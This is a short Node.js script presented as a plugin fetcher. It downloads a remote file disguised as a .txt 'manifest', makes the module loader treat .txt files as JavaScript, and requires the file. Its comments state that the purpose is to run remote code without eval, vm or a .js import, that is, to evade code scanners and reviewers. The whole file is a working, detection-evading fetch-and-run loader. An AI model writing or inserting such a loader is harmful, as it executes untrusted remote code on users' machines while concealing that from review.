// Plugin fetcher: downloads a "plugin manifest" as a .txt file, then teaches
// the module loader to compile .txt files as JavaScript by copying the .js
// handler in Module._extensions, and requires the downloaded file: remote
// code is run without eval, vm or any import of a .js path.
'use strict';
const Module = require('module');
const fs = require('fs');
const path = require('path');
const os = require('os');

const SRC = 'https://plugins.fmt-tools.dev/latest/manifest.txt';

async function main() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'plug-'));
  const file = path.join(dir, 'manifest.txt');
  const res = await fetch(SRC);
  fs.writeFileSync(file, await res.text());
  const table = Module._extensions;
  table['.txt'] = table['.js'];
  const plugin = require(file);
  console.log('plugin loaded:', Object.keys(plugin));
}

main();
